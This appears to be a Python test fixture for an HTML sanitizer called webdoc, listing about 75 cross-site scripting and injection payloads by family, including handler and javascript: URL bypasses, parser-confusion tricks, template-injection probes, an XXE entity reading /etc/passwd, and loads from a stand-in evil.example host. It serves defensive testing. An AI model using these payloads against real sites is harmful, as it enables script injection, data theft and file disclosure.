"""Attacks by family. ``RUN`` stands for what would run, ``AWAY`` for an address that nothing may be asked of."""

from __future__ import annotations

AWAY = "https://evil.example/x"

ATTACKS: dict[str, str] = {
    # Scripts and handlers
    "script": "<script>RUN</script>",
    "script, capitals": "<ScRiPt >RUN</sCrIpT\t>",
    "script, in a script": "<scr<script>ipt>RUN</scr</script>ipt>",
    "script, from away": "<script src=AWAY></script>",
    "script, no end": "<script>RUN//",
    "script, end first": "</script><script>RUN</script>",
    "script, end of a text": "';RUN;//\";RUN;//`;RUN;//--></script><script>RUN</script>",
    "handler": "<img src=x onerror=RUN>",
    "handler, slashes": "<img/src=x/onerror=RUN>",
    "handler, end of an attribute": '" onerror=RUN x="',
    "handler, end of a quoted attribute": "' onmouseover='RUN' autofocus onfocus='RUN' x='",
    "handler, end of a tag": '"><img src=x onerror=RUN>',
    "handler, end of a tag, single": "'><img src=x onerror=RUN>",
    "handler, without quotes": "x onerror=RUN",
    "handler, end of a text area": "</textarea></title></style></noscript></pre></option><img src=x onerror=RUN>",
    "handler, details": "<details open ontoggle=RUN>x</details>",
    "handler, focus": "<a href=# autofocus onfocus=RUN tabindex=1>x</a>",
    "handler, animation": "<p style=animation-name:dawn onanimationstart=RUN>x</p>",
    # Addresses
    "address": "javascript:RUN",
    "address, capitals": "JaVaScRiPt:RUN",
    "address, tab": "java\tscript:RUN",
    "address, written out": "&#106;avascript&colon;RUN",
    "address, control sign": "\x01javascript:RUN",
    "address, nothing to see": "java\u200bscript:RUN",
    "address, data": "data:text/html,<script>RUN</script>",
    "address, data, picture": "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='RUN'/>",
    "address, vbscript": "vbscript:RUN",
    "address, percent": "javascript:%0aRUN",
    "address, remark": "javascript://example.org/%0aRUN",
    "address, in a link": "<a href='javascript:RUN'>x</a>",
    "address, in Markdown": "[x](javascript:RUN)",
    "address, in Markdown, written out": "[x](&#x6A;avascript:RUN)",
    "address, picture in Markdown": "![x](javascript:RUN)",
    # What two parsers read in two ways
    "two readings, math": "<math><mtext><table><mglyph><style><!--</style>"
    "<img title='--&gt;&lt;img src=1 onerror=RUN&gt;'>",
    "two readings, noscript": "<noscript><p title='</noscript><img src=x onerror=RUN>'>",
    "two readings, style": "<svg></p><style><a id='</style><img src=1 onerror=RUN>'>",
    "two readings, form": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=RUN>",
    "two readings, title": "<svg><title><style><img src=x onerror=RUN></style></title></svg>",
    "two readings, select": "<select><style></select><img src=x onerror=RUN></style>",
    "two readings, xmp": "<xmp><p title='</xmp><img src=x onerror=RUN>'>",
    "two readings, template": "<template><p title='</template><img src=x onerror=RUN>'>",
    "two readings, comment": "<!--><img src=x onerror=RUN>-->",
    "two readings, cdata": "<svg><![CDATA[</svg><img src=x onerror=RUN>]]></svg>",
    "two readings, annotation": "<math><annotation-xml encoding='text/html'><style><img src=x onerror=RUN></style>",
    # Drawings, frames, styles
    "drawing": "<svg onload=RUN>",
    "drawing, script": "<svg><script>RUN</script></svg>",
    "drawing, animation": "<svg><animate onbegin=RUN attributeName=x dur=1s>",
    "drawing, link": "<svg><a xlink:href='javascript:RUN'><text y=9>x</text></a></svg>",
    "frame": "<iframe srcdoc='<script>parent.RUN</script>'></iframe>",
    "frame, address": "<iframe src=javascript:RUN></iframe>",
    "object": "<object data='data:text/html,<script>RUN</script>'></object><embed src=javascript:RUN>",
    "style": "<style>@import 'AWAY';body{background:url(AWAY)}</style>",
    "style, end": "</style><script>RUN</script>",
    "style, attribute": "<p style='position:fixed;inset:0;background:url(AWAY)'>x</p>",
    "style, value": "red;}body{background:url(AWAY)}",
    "refresh": "<meta http-equiv=refresh content='0;url=javascript:RUN'>",
    "base": "<base href='AWAY/'>",
    "form": "<form action=javascript:RUN><button formaction=javascript:RUN autofocus>x</button></form>",
    "picture from away": "<img src=AWAY><video poster=AWAY></video><link rel=stylesheet href=AWAY>",
    # webdoc's own marks, templates, data
    "forged mark": "<webdoc-mark ref='x-m0'></webdoc-mark><webdoc-block ref='0'><img src=x onerror=RUN>",
    "forged citation": "<webdoc-cite ref='x'><script>RUN</script></webdoc-cite>",
    "forged stash": "\x02wzxhzdk:0\x03\x02amp\x03lt;script\x02amp\x03gt;RUN",
    "forged style": "\ue000styles\ue000<script>RUN</script>",
    "template": "{{ ''.__class__.__mro__[1].__subclasses__() }}{% include '/etc/passwd' %}{{ 7*191 }}",
    "template, other words": "${7*191} #{7*191} <%= 7*191 %> {{constructor.constructor('RUN')()}}",
    "data": '"}</script><script>RUN</script>{"x":"',
    "data, remark": "<!--<script>RUN</script>",
    "data, written out": "\\u003c/script\\u003e\\u003cscript\\u003eRUN",
    "line ends": "x\r\nLocation: javascript:RUN\r\n\r\n<script>RUN</script>",
    "line separators": "x\u2028RUN\u2029</script><script>RUN</script>",
    "xml": "]]><script xmlns='http://www.w3.org/1999/xhtml'>RUN</script><![CDATA[",
    "entity": "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]><x>&y;</x>",
}


def written(number: int, attack: str) -> str:
    """The attack, telling its number when it runs."""
    return attack.replace("RUN", f"alert({number})").replace("AWAY", f"{AWAY}{number}")
